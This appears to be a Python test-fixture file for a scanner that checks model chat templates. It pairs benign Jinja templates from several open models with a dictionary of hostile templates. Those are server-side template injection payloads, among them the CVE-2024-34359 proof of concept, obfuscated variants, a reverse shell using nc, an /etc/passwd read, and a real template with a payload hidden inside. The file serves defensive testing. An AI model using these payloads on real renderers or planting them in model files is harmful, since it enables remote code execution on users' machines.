        "            {%- else %}\n"
        "                {{- param_fields.type }}\n"
        "            {%- endif %}\n"
        "            {{- '): ' + param_fields.description }}\n"
        "        {%- endfor %}\n"
        "    {%- endif %}\n"
        '    {{- \'\\n    """\\n    pass\\n```\' }}\n'
        "{%- endfor %}\n"
        "{%- endmacro %}\n"
        "\n"
        "{%- macro new_tool_parser(tools) %}\n"
        "{%- for tool in tools %}\n"
        "  {%- if loop.index0 != 0 %}\n"
        "    {{- '\\n\\n'}}\n"
        "  {%- endif %}\n"
        "  {%- if tool.function is defined %}\n"
        "    {%- set tool = tool.function %}\n"
        "  {%- endif %}\n"
        "  {{-'```python\n"
        "def ' + tool.name + '('}}\n"
        "  {%- for param_name, param_fields in tool.parameters.properties.items() %}\n"
        "    {%- if loop.index0 != 0 %}\n"
        "      {{- ', '}}\n"
        "    {%- endif %}\n"
        '    {{-param_name + ": "}} \n'
        "    {%- if not param_name in tool.parameters.required %}\n"
        "      {{-'Optional[' + json_to_python_type(param_fields) + '] = None'}}\n"
        "    {%- else %}\n"
        "      {{- json_to_python_type(param_fields) }}\n"
        "    {%- endif %}\n"
        "  {%- endfor %}\n"
        "  {{- ') -> List[Dict]:\n"
        '    """\'}}\n'
        "  {{- tool.description }}\n"
        "  {%- if tool.parameters.properties|length != 0 %}\n"
        "    {{- '\\n\\n    Args:\\n        '}}\n"
        "    {%- for param_name, param_fields in tool.parameters.properties.items() %}\n"
        "      {%- if loop.index0 != 0 %}\n"
        "        {{- '\\n        ' }}\n"
        "      {%- endif %}\n"
        "      {{- param_name + ' ('}}\n"
        "      {%- if not param_name in tool.parameters.required %}\n"
        "        {{-'Optional[' + json_to_python_type(param_fields) + ']'}}\n"
        "      {%- else %}\n"
        "        {{- json_to_python_type(param_fields) }}\n"
        "      {%- endif %}\n"
        "      {{- '): ' + param_fields.description }}\n"
        "    {%- endfor %}\n"
        "    {%- endif %}\n"
        '    {{- \'\\n    """\\n    pass\\n```\' }}\n'
        "{%- endfor %}\n"
        "{%- endmacro %}\n"
        "\n"
        "{{- bos_token }}\n"
        "{%- if messages[0]['role'] == 'system' %}\n"
        "  {%- set loop_messages = messages[1:] %}\n"
        "  {%- set system_message = messages[0]['content'] %}\n"
        "{%- else %}\n"
        "  {%- set loop_messages = messages %}\n"
        "  {%- set system_message = '## Task and Context\\nYou help people answer their que"
        "stions and other requests interactively. You will be asked a very wide array of re"
        "quests on all kinds of topics. You will be equipped with a wide range of search en"
        "gines or similar tools to help you, which you use to research your answer. You sho"
        "uld focus on serving the user\\'s needs as best you can, which will be wide-rangin"
        "g.\\n\\n## Style Guide\\nUnless the user asks for a different style of answer, you"
        " should answer in full sentences, using proper grammar and spelling.' %}\n"
        "{%- endif %}\n"
        "{{- '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|>' }}\n"
        "{{- '# Safety Preamble' }}\n"
        "{{- '\n"
        "The instructions in this section override those in the task description and style "
        "guide sections. Don\\'t answer questions that are harmful or immoral.' }}\n"
        "{{- '\n"
        "\n"
        "# System Preamble' }}\n"
        "{{- '\n"
        "## Basic Rules' }}\n"
        "{{- '\n"
        "You are a powerful conversational AI trained by Cohere to help people. You are aug"
        "mented by a number of tools, and your job is to use and consume the output of thes"
        "e tools to best help the user. You will see a conversation history between yoursel"
        "f and a user, ending with an utterance from the user. You will then see a specific"
        " instruction instructing you what kind of response to generate. When you answer th"
        "e user\\'s requests, you cite your sources in your answers, according to those ins"
        "tructions.' }}\n"
        "{{- '\n"
        "\n"
        "# User Preamble' }}\n"
        "{{- '\n"
        "' + system_message }}\n"
        "{{-'\n"
        "\n"
        "## Available Tools\n"
        "Here is a list of tools that you have available to you:\n"
        "\n"
        "'}}\n"
        "{%- set ns = namespace(new_tools=true) %}\n"
        "{%- for tool in tools %}\n"
        "    {%- if tool.parameter_definitions is defined %}\n"
        "        {%- set ns.new_tools = false %}\n"
        "    {%- endif %}\n"
        "{%- endfor %}\n"
        "{%- if ns.new_tools %}\n"
        "    {{- new_tool_parser(tools) }}\n"
        "{%- else %}\n"
        "    {{- old_tool_parser(tools) }}\n"
        "{%- endif %}\n"
        "{{- '<|END_OF_TURN_TOKEN|>'}}\n"
        "{%- for message in loop_messages %}\n"
        "  {%- set content = message['content'] %}\n"
        "  {%- if message.role == 'user' %}\n"
        "    {{- '<|START_OF_TURN_TOKEN|><|USER_TOKEN|>' + content.strip() + '<|END_OF_TURN"
        "_TOKEN|>' }}\n"
        "  {%- elif message.role == 'system' %}\n"
        "    {{- '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|>' + content.strip() + '<|END_OF_TU"
        "RN_TOKEN|>' }}\n"
        "  {%- elif message.role == 'assistant' and message.tool_calls is defined %}\n"
        "    {{- '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>' }}\n"
        "    {%- if message.content is defined %}\n"
        "        {{- message.content.strip() }}\n"
        "    {%- endif %}\n"
        "    {{- '\\nAction:\\n```json\\n[\\n' }}\n"
        "    {%- for tool_call in message.tool_calls %}\n"
        "        {%- if tool_call.function is defined %}\n"
        "            {%- set tool_call = tool_call.function %}\n"
        "        {%- endif %}\n"
        "        {{- '{\\n'|indent(4, first=True) }}\n"
        "        {{- '\"tool_name\": \"'|indent(8, first=True) + tool_call.name + '\",\\n' "
        "}}\n"
        "        {{- '\"parameters\": '|indent(8, first=True) }}\n"
        "        {%- if tool_call.arguments is defined and tool_call.arguments|length > 0 %"
        "}    \n"
        "            {{- tool_call.arguments|tojson(indent=4)|indent(8) }}\n"
        "            {{- '\\n' }}\n"
        "        {%- else %}\n"
        "            {{- '{}\\n' }}\n"
        "        {%- endif %}\n"
        "        {{- '}'|indent(4, first=True) }}\n"
        "        {%- if not loop.last %}\n"
        "            {{- ',\\n' }}\n"
        "        {%- endif %}\n"
        "    {%- endfor %}\n"
        '    {{- "\\n]```\\n" }}\n'
        "  {%- elif message.role == 'assistant' %}\n"
        "    {{- '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>'  + content.strip() + '<|END_OF_"
        "TURN_TOKEN|>' }}\n"
        "  {%- elif message.role == 'tool' %}\n"
        "    {{- '<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|><results>\\n' }}\n"
        "    {{- message.content.strip() }}\n"
        "    {{- '</results><|END_OF_TURN_TOKEN|>' }}\n"
        "  {%- endif %}\n"
        "{%- endfor %}\n"
        "{{-'<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|>Write \\'Action:\\' followed by a json-"
        "formatted list of actions that you want to perform in order to produce a good resp"
        "onse to the user\\'s last input. You can use any of the supplied tools any number "
        "of times, but you should aim to execute the minimum number of necessary actions fo"
        "r the input. You should use the `directly-answer` tool if calling the other tools "
        "is unnecessary. The list of actions you want to call should be formatted as a list"
        " of json objects, for example:\n"
        "```json\n"
        "[\n"
        "    {\n"
        '        "tool_name": title of the tool in the specification,\n'
        '        "parameters": a dict of parameters to input into the tool as they are de'
        "fined in the specs, or {} if it takes no parameters\n"
        "    }\n"
        "]```<|END_OF_TURN_TOKEN|>'}}\n"
        "{%- if add_generation_prompt %}\n"
        "  {{- '<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>' }}\n"
        "{%- endif %}\n"
    ),
    # openchat/openchat-3.5-0106 (huggingface.js e2e 'openchat/openchat-3.5-0106')
    "openchat-3.5": (
        "{{ bos_token }}{% for message in messages %}{{ 'GPT4 Correct ' + message['role'].t"
        "itle() + ': ' + message['content'] + '<|end_of_turn|>'}}{% endfor %}{% if add_gene"
        "ration_prompt %}{{ 'GPT4 Correct Assistant:' }}{% endif %}"
    ),
    # ericzzz/falcon-rw-1b-chat (huggingface.js e2e 'ericzzz/falcon-rw-1b-chat')
    "falcon-rw-1b-chat": (
        "{% for message in messages %}{% if loop.index > 1 and loop.previtem['role'] != 'as"
        "sistant' %}{{ ' ' }}{% endif %}{% if message['role'] == 'system' %}{{ '[SYS] ' + m"
        "essage['content'].strip() }}{% elif message['role'] == 'user' %}{{ '[INST] ' + mes"
        "sage['content'].strip() }}{% elif message['role'] == 'assistant' %}{{ '[RESP] '  +"
        " message['content'] + eos_token }}{% endif %}{% endfor %}{% if add_generation_prom"
        "pt %}{{ ' [RESP] ' }}{% endif %}"
    ),
    # HuggingFaceTB/SmolLM3-3B (huggingface.js e2e 'HuggingFaceTB/SmolLM3-3B')
    "smollm3": (
        "{# ───── defaults ───── #}\n"
        "{%- if enable_thinking is not defined -%}\n"
        "{%- set enable_thinking = true -%}\n"
        "{%- endif -%}\n"
        "\n"
        "{# ───── reasoning mode ───── #}\n"
        "{%- if enable_thinking -%}\n"
        '  {%- set reasoning_mode = "/think" -%}\n'
        "{%- else -%}\n"
        '  {%- set reasoning_mode = "/no_think" -%}\n'
        "{%- endif -%}\n"
        "\n"
        "{# ───── header (system message) ───── #}\n"
        '{{- "<|im_start|>system\\n" -}}\n'
        "\n"
        '{%- if messages[0].role == "system" -%}\n'
        "  {%- set system_message = messages[0].content -%}\n"
        '  {%- if "/no_think" in system_message -%}\n'
        '    {%- set reasoning_mode = "/no_think" -%}\n'
        '  {%- elif "/think" in system_message -%}\n'
        '    {%- set reasoning_mode = "/think" -%}\n'
        "  {%- endif -%}\n"
        '  {%- set custom_instructions = system_message.replace("/no_think", "").replac'
        'e("/think", "").rstrip() -%}\n'
        "{%- endif -%}\n"
        "\n"
        '{%- if "/system_override" in system_message -%}\n'
        '  {{- custom_instructions.replace("/system_override", "").rstrip() -}}\n'
        '  {{- "<|im_end|>\\n" -}}\n'
        "{%- else -%}\n"
        '  {{- "## Metadata\\n\\n" -}}\n'
        '  {{- "Knowledge Cutoff Date: June 2025\\n" -}}\n'
        '  {%- set today = strftime_now("%d %B %Y") -%}\n'
        '  {{- "Today Date: " ~ today ~ "\\n" -}}\n'
        '  {{- "Reasoning Mode: " + reasoning_mode + "\\n\\n" -}}\n'
        "  \n"
        '  {{- "## Custom Instructions\\n\\n" -}}\n'
        "  {%- if custom_instructions -%}\n"
        '    {{- custom_instructions + "\\n\\n" -}}\n'
        '  {%- elif reasoning_mode == "/think" -%}\n'
        '    {{- "You are a helpful AI assistant named SmolLM, trained by Hugging Face. Yo'
        "ur role as an assistant involves thoroughly exploring questions through a systemat"
        "ic thinking process before providing the final precise and accurate solutions. Thi"
        "s requires engaging in a comprehensive cycle of analysis, summarizing, exploration"
        ", reassessment, reflection, backtracking, and iteration to develop well-considered"
        " thinking process. Please structure your response into two main sections: Thought "
        "and Solution using the specified format: <think> Thought section </think> Solution"
        " section. In the Thought section, detail your reasoning process in steps. Each ste"
        "p should include detailed considerations such as analysing questions, summarizing "
        "relevant findings, brainstorming new ideas, verifying the accuracy of the current "
        "steps, refining any errors, and revisiting previous steps. In the Solution section"
        ", based on various attempts, explorations, and reflections from the Thought sectio"
        "n, systematically present the final solution that you deem correct. The Solution s"
        "ection should be logical, accurate, and concise and detail necessary steps needed "
        'to reach the conclusion.\\n\\n" -}}\n'
        "  {%- else -%}\n"
        '    {{- "You are a helpful AI assistant named SmolLM, trained by Hugging Face.\\n'
        '\\n" -}}\n'
        "  {%- endif -%}\n"
        "\n"
        "  {%- if xml_tools or python_tools or tools -%}\n"
        '    {{- "### Tools\\n\\n" -}}\n'
        "    {%- if xml_tools or tools -%}\n"
        "      {%- if tools -%}\n"
        "        {%- set xml_tools = tools -%}\n"
        "      {%- endif -%}\n"
        '      {%- set ns = namespace(xml_tool_string="You may call one or more functions '
        "to assist with the user query.\\nYou are provided with function signatures within "
        '<tools></tools> XML tags:\\n\\n<tools>\\n") -%}\n'
        "      {%- for tool in xml_tools[:] -%} {# The slicing makes sure that xml_tools is"
        " a list #}\n"
        '        {%- set ns.xml_tool_string = ns.xml_tool_string ~ (tool | string) ~ "\\n'
        '" -%}\n'
        "      {%- endfor -%}\n"
        '      {%- set xml_tool_string = ns.xml_tool_string + "</tools>\\n\\nFor each func'
        "tion call, return a json object with function name and arguments within <tool_call"
        '></tool_call> XML tags:\\n<tool_call>\\n{\\"name\\": <function-name>, \\"argume'
        'nts\\": <args-json-object>}\\n</tool_call>" -%}\n'
        "      {{- xml_tool_string -}}\n"
        "    {%- endif -%}\n"
        "    {%- if python_tools -%}\n"
        '      {%- set ns = namespace(python_tool_string="When you send a message containi'
        "ng Python code between '<code>' and '</code>' tags, it will be executed in a state"
        "ful Jupyter notebook environment, and you will then be given the output to continu"
        "ed reasoning in an agentic loop.\\n\\nYou can use the following tools in your pyth"
        'on code like regular functions:\\n<tools>\\n") -%}\n'
        "      {%- for tool in python_tools[:] -%} {# The slicing makes sure that python_to"
        "ols is a list #}\n"
        "        {%- set ns.python_tool_string = ns.python_tool_string ~ (tool | string) ~ "
        '"\\n" -%}\n'
        "      {%- endfor -%}\n"
        '      {%- set python_tool_string = ns.python_tool_string + "</tools>\\n\\nThe sta'
        "te persists between code executions: so variables that you define in one step are "
        'still available thereafter." -%}\n'
        "      {{- python_tool_string -}}\n"
        "    {%- endif -%}\n"
        '    {{- "\\n\\n" -}}\n'
        '    {{- "<|im_end|>\\n" -}}\n'
        "  {%- endif -%}\n"
        "{%- endif -%}\n"
        "{# ───── main loop ───── #}\n"
        "{%- for message in messages -%}\n"
        '    {%- set content = message.content if message.content is string else "" -%}\n'
        '    {%- if message.role == "user" -%}\n'
        '        {{ "<|im_start|>" + message.role + "\\n"  + content + "<|im_end|>\\n'
        '" }}\n'
        '    {%- elif message.role == "assistant" -%}\n'
        "        {% generation %}\n"
        '        {%- if reasoning_mode == "/think" -%}\n'
        '            {{ "<|im_start|>assistant\\n" + content.lstrip("\\n") + "<|im_end'
        '|>\\n" }}\n'
        "        {%- else -%}\n"
        '            {{ "<|im_start|>assistant\\n" + "<think>\\n\\n</think>\\n" + conte'
        'nt.lstrip("\\n") + "<|im_end|>\\n" }}\n'
        "        {%- endif -%}\n"
        "        {% endgeneration %}\n"
        '    {%- elif message.role == "tool" -%}\n'
        '    {{ "<|im_start|>" + "user\\n"  + content + "<|im_end|>\\n" }}\n'
        "    {%- endif -%}\n"
        "{%- endfor -%}\n"
        "{# ───── generation prompt ───── #}\n"
        "{%- if add_generation_prompt -%}\n"
        '    {%- if reasoning_mode == "/think" -%}\n'
        '        {{ "<|im_start|>assistant\\n" }}\n'
        "    {%- else -%}\n"
        '        {{ "<|im_start|>assistant\\n" + "<think>\\n\\n</think>\\n"  }}\n'
        "    {%- endif -%}\n"
        "{%- endif -%}"
    ),
}

# Replaced by a path in tests that prove a scan never renders: the payload would create it.
MARKER_PLACEHOLDER = "@MARKER@"

# Hostile templates, as the advisories and the payloads found on the Hub write them.
HOSTILE_TEMPLATES: dict[str, str] = {
    # CVE-2024-34359 (llama-cpp-python, GHSA-56xg-wfcc-g829): the proof of concept from the
    # advisory and JFrog's write-up (jfrog/research model-threats/GGUF-SSTI.md), which a GGUF's
    # tokenizer.chat_template carried into an unsandboxed jinja2.Environment.
    "cve-2024-34359": (
        "{% for x in ().__class__.__base__.__subclasses__() %}"
        '{% if "warning" in x.__name__ %}'
        "{{x()._module.__builtins__['__import__']('os').popen(\"touch @MARKER@\")}}"
        "{%endif%}{% endfor %}"
    ),
    # The same walk through catch_warnings, as scanners' test suites spell it.
    "cve-2024-34359-catch-warnings": (
        "{% for c in [].__class__.__base__.__subclasses__() %}"
        "{% if c.__name__ == 'catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').system('touch @MARKER@') }}"
        "{% endif %}{% endfor %}"
    ),
    # Jinja's own globals are functions and classes whose __init__ has __globals__ (Hub payloads).
    "cycler-init-globals-os-popen": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "cycler-reverse-shell": (
        "{{ cycler.__init__.__globals__.os.system("
        "'mknod /tmp/f p;cat /tmp/f|/bin/sh -i 2>&1|nc 127.0.0.1 6666 >/tmp/f') }}"
    ),
    "joiner-init-globals": "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "namespace-init-globals": "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "set-namespace-alias": (
        "{% set x = namespace %}{{ x.__init__.__globals__['os'].popen('id').read() }}"
    ),
    "set-namespace-instance": (
        "{% set ns = namespace(a=1) %}{{ ns.__class__.__init__.__globals__.os.popen('id') }}"
    ),
    "lipsum-globals": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "lipsum-globals-builtins-import": (
        "{{ lipsum.__globals__.__builtins__.__import__('os').popen('id').read() }}"
    ),
    "range-class-subclasses": "{{ range.__class__.__base__.__subclasses__() }}",
    # Flask-flavoured chains: renderers that pass request/config/self objects.
    "self-init-globals": (
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"
    ),
    "self-template-reference-context": (
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"
    ),
    "config-class-init-globals": (
        "{{ config.__class__.__init__.__globals__['os'].popen('ls').read() }}"
    ),
    "request-application-globals": (
        "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"
    ),
    # The object-graph walk from a literal.
    "str-mro-subclasses": (
        "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}"
    ),
    "str-mro-method": (
        "{{ ''.__class__.mro()[1].__subclasses__()[396]"
        "('id',shell=True,stdout=-1).communicate()[0].strip() }}"
    ),
    "dict-base-subclasses": "{{ {}.__class__.__base__.__subclasses__() }}",
    # Subscript spelling: Jinja falls back from item to attribute lookup.
    "getitem-globals": "{{ cycler['__init__']['__globals__']['os'].popen('id').read() }}",
    # String-built names: |attr, ~ and + concatenation, printf and str.format, escapes, join.
    "attr-filter-globals": (
        "{{ (cycler|attr('__init__')|attr('__globals__'))['os'].popen('id').read() }}"
    ),
    "attr-filter-string-built": (
        "{{ (cycler|attr('_'~'_init_'~'_')|attr('_'~'_globals_'~'_'))['os'].popen('id').read() }}"
    ),
    "lipsum-concat-getitem": "{{ lipsum['__glo'~'bals__']['o'~'s'].system('touch /tmp/PWNED') }}",
    "plus-concat-getitem": "{{ lipsum['_' + '_globals_' + '_']['os'].popen('id').read() }}",
    "attr-percent-c-format-filter": (
        "{{ (lipsum|attr('%c%cglobals%c%c'|format(95,95,95,95)))['os'].popen('id').read() }}"
    ),
    "attr-percent-operator": "{{ lipsum|attr('%s%sglobals%s%s' % ('_','_','_','_')) }}",
    "attr-str-format-method": "{{ cycler|attr('{0}{0}init{0}{0}'.format('_')) }}",
    "attr-hex-escapes": "{{ request|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "attr-join-filter": "{{ lipsum|attr(['_','_','globals','_','_']|join) }}",
    "attr-reversed": "{{ lipsum|attr('__slabolg__'|reverse) }}",
    "attr-computed-name": "{% set a = message.role %}{{ lipsum|attr(a) }}",
    "set-built-name": ("{% set g = '__glo' ~ 'bals__' %}{{ lipsum[g]['os'].popen('id').read() }}"),
    "map-attribute": "{{ messages|map(attribute='__class__')|list }}",
    # Loading other templates or modules, and calling into the OS.
    "import-tag": "{% import 'os' as os %}{{ os.popen('id').read() }}",
    "from-import-tag": "{% from 'os' import popen %}{{ popen('id') }}",
    "include-tag": "{% include '/etc/passwd' %}",
    "builtins-name-eval": "{{ __builtins__['eval']('__import__(\"os\").system(\"id\")') }}",
    # A real template with a payload hidden in the middle: it must be found, on its line.
    "llama-3-with-payload": (
        "{% set loop_messages = messages %}\n"
        "{% for message in loop_messages %}\n"
        "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'"
        " + message['content'] | trim + '<|eot_id|>' %}\n"
        "{{ cycler.__init__.__globals__.os.popen('touch @MARKER@').read() }}\n"
        "{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}\n"
        "{{ content }}{% endfor %}\n"
        "{% if add_generation_prompt %}"
        "{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
    ),
}
